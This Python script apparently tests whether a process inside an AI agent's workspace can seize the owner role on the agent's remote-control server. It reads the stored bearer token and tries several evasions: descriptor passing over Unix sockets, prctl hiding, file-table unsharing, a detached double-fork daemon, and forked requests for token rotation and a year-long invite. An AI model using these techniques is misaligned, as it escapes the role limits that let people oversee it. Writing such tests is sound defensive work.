"""What an agent's process does to become the owner.

Run in the workspace as `python attacks.py HOW HOST PORT [HOST-HEADER]`. Knows nothing of myagent but its wire.
"""

import ctypes
import json
import os
import socket
import sys
import threading
import time

MSG_MORE = 0x8000  # the kernel sends what was written a little later
PR_SET_DUMPABLE = 4
CLONE_FILES = 0x400
PARKED_SECONDS = 1.5  # more than the kernel holds what was written, and the server takes to look
ROOM = 8 << 20


def handshake(port, token, host):
    return (
        f"GET / HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
        f"Authorization: Bearer {token}\r\n\r\n"
    ).encode()


def role(connection):
    data = b""
    while b'"type":"role"' not in data or b'"welcome"' not in data:
        piece = connection.recv(65536)
        if not piece:
            return repr(data[:200])
        data += piece
    return "owner" if b'"role":"owner"' in data else "follower"


def connected(host, port):
    return socket.create_connection((host, int(port)))


def plain(host, port, request):
    connection = connected(host, port)
    connection.sendall(request)
    return role(connection)


def hidden(host, port, request):
    """Its open files cannot be read by others."""
    ctypes.CDLL(None).prctl(PR_SET_DUMPABLE, 0, 0, 0, 0)
    return plain(host, port, request)


def hidden_beside(host, port, request):
    """A child hides, and holds a descriptor of its parent's, which shows that it has none."""
    return hidden(host, port, request)


def thread(host, port, request):
    """A thread with a table of files of its own."""
    said = []

    def run():
        ctypes.CDLL(None).unshare(CLONE_FILES)
        said.append(plain(host, port, request))

    running = threading.Thread(target=run)
    running.start()
    running.join()
    return said[0]


def in_flight(host, port, request):
    """The descriptor is on its way to ourselves while the server looks."""
    here, there = socket.socketpair()
    connection = connected(host, port)
    connection.send(request, MSG_MORE)
    socket.send_fds(here, [b"x"], [connection.fileno()])
    connection.close()
    time.sleep(PARKED_SECONDS)
    _, fds, _, _ = socket.recv_fds(there, 1, 1)
    return role(socket.socket(fileno=fds[0]))


def not_accepted(host, port, request):
    """It is on its way to a socket of ours that nobody has accepted yet."""
    listening, sending = socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)
    listening.bind("")
    listening.listen()
    sending.connect(listening.getsockname())
    connection = connected(host, port)
    connection.send(request, MSG_MORE)
    socket.send_fds(sending, [b"x"], [connection.fileno()])
    connection.close()
    sending.close()
    time.sleep(PARKED_SECONDS)
    _, fds, _, _ = socket.recv_fds(listening.accept()[0], 1, 1)
    return role(socket.socket(fileno=fds[0]))


def passed_on(host, port, request):
    """Two processes hand it to each other all the time."""
    here, there = socket.socketpair()
    connection = connected(host, port)
    connection.send(request, MSG_MORE)
    socket.send_fds(here, [b"x"], [connection.fileno()])
    connection.close()
    ends = time.monotonic() + PARKED_SECONDS
    for end in (here, there):
        end.settimeout(PARKED_SECONDS)
    other = os.fork()
    mine = there if other else here
    while time.monotonic() < ends:
        try:
            _, fds, _, _ = socket.recv_fds(mine, 1, 1)
        except TimeoutError:  # the other was done just before its turn; it is in the queue still
            break
        if not fds:
            break
        socket.send_fds(mine, [b"x"], fds)
        os.close(fds[0])
    if not other:
        os._exit(0)
    mine.setblocking(False)
    os.waitpid(other, 0)
    for end in (there, here):
        end.setblocking(False)
        try:
            _, fds, _, _ = socket.recv_fds(end, 1, 1)
            return role(socket.socket(fileno=fds[0]))
        except (BlockingIOError, IndexError):
            continue
    return "lost"


def daemon(host, port, request):
    """Two forks and a session of its own away from the agent."""
    read, write = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while os.getppid() == os.getsid(0):
                time.sleep(0.01)
            os.write(write, plain(host, port, request).encode())
        os._exit(0)
    os.close(write)
    return open(read).read()


def control(host, port, request):
    """Asks for another token and an invite, and has ended before anybody looks."""
    for what in ({"op": "rotate"}, {"op": "invite", "lifetime": 31536000}):
        for _ in range(20):
            if os.fork() == 0:
                asking = socket.socket(socket.AF_UNIX)
                asking.connect(".myagent/remote/control.sock")
                asking.sendall(json.dumps(what).encode() + b"\n")
                os._exit(0)
            os.wait()
    return "done"


if __name__ == "__main__":
    how, host, port, *more = sys.argv[1:]
    with open(".myagent/remote/auth.json") as file:
        token = json.load(file)["token"]
    print(globals()[how](host, port, handshake(port, token, more[0] if more else f"127.0.0.1:{port}")))
